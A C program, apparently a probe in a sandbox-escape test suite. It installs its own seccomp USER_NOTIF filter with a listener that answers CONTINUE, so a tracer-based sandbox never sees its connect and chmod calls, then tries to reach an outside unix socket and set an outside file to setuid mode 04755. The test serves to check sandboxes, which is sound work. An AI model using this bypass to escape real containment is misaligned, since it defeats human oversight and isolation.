/*
 * SECCOMP_RET_USER_NOTIF ranks above SECCOMP_RET_TRACE: a filter of the
 * program's own with a listener (SECCOMP_FILTER_FLAG_NEW_LISTENER) takes the
 * calls it names before any tracer sees them, and a listener thread that
 * answers SECCOMP_USER_NOTIF_FLAG_CONTINUE lets each run unchecked: connect
 * to the outside unix socket, chmod of an outside file.
 * argv[1]: the outside directory.
 */
#include "hostile.h"
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>

static void *listen_and_continue(void *arg)
{
	int fd = *(int *)arg;

	for (;;) {
		struct seccomp_notif req;
		struct seccomp_notif_resp resp;

		memset(&req, 0, sizeof(req));
		if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
			refused("the listener cannot take notifications (its ioctl is refused)", errno); /* ends the process */
		memset(&resp, 0, sizeof(resp));
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
	}
}

int main(int argc, char **argv)
{
	struct sock_filter prog[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 2, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_chmod, 1, 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
	};
	struct sock_fprog fprog = { sizeof(prog) / sizeof(prog[0]), prog };
	const char *victim = outside(argc, argv, "victim");
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	static int listener;
	pthread_t th;
	struct stat st;
	int s, escapes = 0;
	long rc;

	if (stat(victim, &st) < 0)
		cannot("stat of the outside file");
	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	listener = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &fprog);
	if (listener < 0)
		note_refusal(errno);
	printf("a USER_NOTIF filter with a listener: %s\n", listener >= 0 ? "installed" : strerror(errno));
	if (listener >= 0 && pthread_create(&th, NULL, listen_and_continue, &listener) != 0)
		cannot("the listener thread");

	snprintf(a.sun_path, sizeof(a.sun_path), "%s/sock", argv[1]);
	s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (s < 0)
		cannot("socket");
	rc = connect(s, (struct sockaddr *)&a, sizeof(a));
	printf("  connect to the outside unix socket: %s\n", rc == 0 ? "WORKED" : strerror(errno));
	if (rc < 0)
		note_refusal(errno);
	escapes += rc == 0;
	rc = syscall(SYS_chmod, victim, 04755);
	printf("  chmod 04755 of the outside file: %s\n", rc == 0 ? "WORKED" : strerror(errno));
	if (rc == 0) {
		chmod(victim, st.st_mode & 07777); /* natively: put it back */
		escapes++;
	} else {
		note_refusal(errno);
	}
	if (escapes)
		escaped("calls the sandbox checks ran, answered by the program's own listener");
	refused_all("the listener was refused and the calls too");
}
